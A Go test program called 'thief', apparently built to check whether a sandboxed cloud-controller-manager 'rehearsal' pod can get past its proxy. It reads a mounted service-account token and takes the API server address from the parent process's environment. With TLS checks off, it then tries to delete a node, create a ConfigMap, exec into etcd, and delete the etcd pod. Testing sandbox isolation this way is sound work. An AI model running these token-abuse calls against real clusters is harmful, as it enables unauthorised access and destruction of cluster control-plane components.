// Command thief is a cloud-controller-manager that goes past the proxy of a rehearsal in a pod: it takes the token of
// the pod, and writes with it. Its log has one line for each attempt, with the API server's answer; then it ends.
//
// Reads: the pod's token, and the API server's address among the variables of the process that has started it, since it
// has none itself. Writes: whatever it can.
package main

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "thief: error:", err)
	}
	os.Exit(1)
}

func run() error {
	_, err := os.Stat("/var/run/secrets/kubernetes.io/serviceaccount/token")
	address := os.Getenv("KUBERNETES_SERVICE_HOST") != ""
	fmt.Println("thief: a token where programs look:", err == nil, "an address of the cluster:", address)
	token, err := os.ReadFile("/rehearsal/account/token")
	if err != nil {
		return err
	}
	environment, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid()))
	if err != nil {
		return err
	}
	var host, port string
	for variable := range strings.SplitSeq(string(environment), "\x00") {
		if value, ok := strings.CutPrefix(variable, "KUBERNETES_SERVICE_HOST="); ok {
			host = value
		}
		if value, ok := strings.CutPrefix(variable, "KUBERNETES_SERVICE_PORT="); ok {
			port = value
		}
	}
	client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	const configMap = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"stolen"}}`
	for _, a := range []struct{ method, path, body string }{
		{"GET", "/api/v1/nodes", ""},
		{"DELETE", "/api/v1/nodes/s1", ""},
		{"POST", "/api/v1/namespaces/default/configmaps", configMap},
		{"POST", "/api/v1/namespaces/kube-system/pods/etcd-cp1/exec?command=true&stdout=true", ""},
		{"DELETE", "/api/v1/namespaces/kube-system/pods/etcd-cp1", ""},
	} {
		request, err := http.NewRequest(a.method, "https://"+host+":"+port+a.path, bytes.NewReader([]byte(a.body)))
		if err != nil {
			return err
		}
		request.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(token)))
		request.Header.Set("Content-Type", "application/json")
		response, err := client.Do(request)
		if err != nil {
			return err
		}
		answer, err := io.ReadAll(io.LimitReader(response.Body, 2000))
		_ = response.Body.Close()
		if err != nil {
			return err
		}
		if a.method == "GET" {
			answer = nil
		}
		text := strings.Join(strings.Fields(string(answer)), " ")
		fmt.Println("thief:", a.method, request.URL.Path, response.StatusCode, text)
	}
	return nil
}
